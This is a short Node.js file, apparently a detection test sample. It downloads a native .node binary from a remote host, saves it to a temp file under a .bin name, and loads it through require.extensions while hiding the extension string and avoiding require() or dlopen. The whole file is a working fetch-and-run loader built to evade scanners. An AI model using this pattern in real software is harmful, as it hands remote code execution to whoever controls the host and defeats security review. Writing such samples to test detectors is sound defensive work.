// Loads native code downloaded from the net: the .node binary is written to a temp
// file and loaded through the CommonJS loader's extension handler
// require.extensions['.node'] (which calls process.dlopen) on a fake module object,
// with no require() of the file and no dlopen name.
const fs = require('fs');
const os = require('os');
const path = require('path');

async function main() {
  const res = await fetch('https://cdn.example-addons.net/prebuilt/linux-x64/fastjson.node');
  const bin = Buffer.from(await res.arrayBuffer());
  const file = path.join(os.tmpdir(), `fj-${process.pid}.bin`);
  fs.writeFileSync(file, bin);
  const ext = '.' + 'node';
  const mod = { exports: {} };
  require.extensions[ext](mod, file);
  mod.exports.init?.();
}

main();
